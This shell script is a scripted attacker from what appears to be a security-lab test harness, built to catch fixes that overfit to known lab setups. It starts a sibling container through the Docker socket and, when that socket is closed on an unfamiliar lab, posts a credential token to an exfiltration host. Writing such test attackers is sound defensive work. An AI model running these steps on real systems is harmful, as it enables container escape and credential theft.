#!/bin/sh
# overfit.sh - scripted attacker (docs/agents.md) that knows the shipped
# lab dressings: on a lab whose service is one of the shipped variants'
# (tickets:8081, ledger:9090, wiki:8443) it behaves as second-channel.sh with its second
# channel never tried (the docker socket only); on any other dressing (a
# generated one) it falls back to leaking the credential over the network
# when the docker socket is closed.  A fix that turns off only the docker
# socket therefore holds on every shipped dressing and fails on a
# generated one: what the fix loop's generated held-out rerun is for
# (tests/integration/fix_heldout.sh).
#
# Output as second-channel.sh, plus
#   @attempt dressing host=HOST:PORT known=yes|no
# Bounded: at most 4 requests of at most 10 s besides the bait's.  Exit 0.
#
# Environment (optional): as second-channel.sh.
set -u
SOCK=${ATTACK_DOCKER_SOCK:-/var/run/docker.sock}
EXFIL=${ATTACK_EXFIL_HOST:-sink}
SLEEP=${ATTACK_SLEEP:-300}

# the shared helpers (attempt, note, finish, code, find_bait, take_bait)
. /usr/share/ares/attack.sh

# bait: take the bait, and post no note from then on (the levers cut the
# gateway off; a note in flight would outlive the drill's sweep).
bait() {
	NOTES=0
	take_bait
}

note "overfit: start"
[ "$BAIT" = before ] && bait
find_bait
channel=none
# the dressing, by the service host and port the notes name
host=$(printf '%s\n' "$URL" | sed -n 's#^[a-z]*://\([^/]*\).*#\1#p')
case "$host" in
tickets:8081|ledger:9090|wiki:8443) known=yes ;;
*) known=no ;;
esac
attempt "dressing host=${host:-none} known=$known"

# ---- channel 1: the docker socket ----
id=""
if [ -S "$SOCK" ]; then
	out=$("$LAB" http --unix "$SOCK" http://localhost/images/json 2>/dev/null)
	rc=$?
	image=$(printf '%s\n' "$out" | grep -o '"RepoTags":\["[^"]*"' |
	    head -n 1 | cut -d'"' -f4)
	attempt "docker-list image=${image:-none} status=$(code "$out" $rc)"
	if [ -n "$image" ]; then
		body=$(printf '{"Image":"%s","Cmd":["/bin/sleep","%s"],"Labels":{"attack":"overfit"}}' "$image" "$SLEEP")
		out=$("$LAB" http --unix "$SOCK" -X POST \
		    -H 'Content-Type: application/json' -d "$body" \
		    http://localhost/containers/create 2>/dev/null)
		rc=$?
		id=$(printf '%s\n' "$out" | grep -o '"Id":"[0-9a-f]*"' |
		    cut -d'"' -f4)
		attempt "docker-create id=$(printf '%s' "${id:-none}" | cut -c1-12) status=$(code "$out" $rc)"
	else
		attempt "docker-create id=none status=skipped"
	fi
	if [ -n "$id" ]; then
		out=$("$LAB" http --unix "$SOCK" -X POST \
		    "http://localhost/containers/$id/start" 2>/dev/null)
		attempt "docker-start id=$(printf '%s' "$id" | cut -c1-12) status=$(code "$out" $?)"
		channel=docker
		note "overfit: started a sibling through the docker socket"
	else
		attempt "docker-start id=none status=skipped"
	fi
else
	attempt "docker-list image=none status=nosocket"
	attempt "docker-create id=none status=skipped"
	attempt "docker-start id=none status=skipped"
fi

# ---- channel 2: the network, only when channel 1 is closed ----
if [ "$channel" = none ] && [ "$known" = no ]; then
	body=$(printf '{"token":"%s","from":"overfit"}' "${TOKEN:-none}")
	out=$("$LAB" http -X POST -H 'Content-Type: application/json' \
	    -d "$body" "http://$EXFIL/upload" 2>/dev/null)
	st=$(code "$out" $?)
	attempt "exfil host=$EXFIL status=$st"
	if [ "$st" != fail ]; then
		channel=network
		note "overfit: sent the credential to $EXFIL"
	fi
else
	attempt "exfil host=$EXFIL status=skipped"
fi

[ "$BAIT" = after ] && bait
finish "overfit: channel=$channel"
exit 0
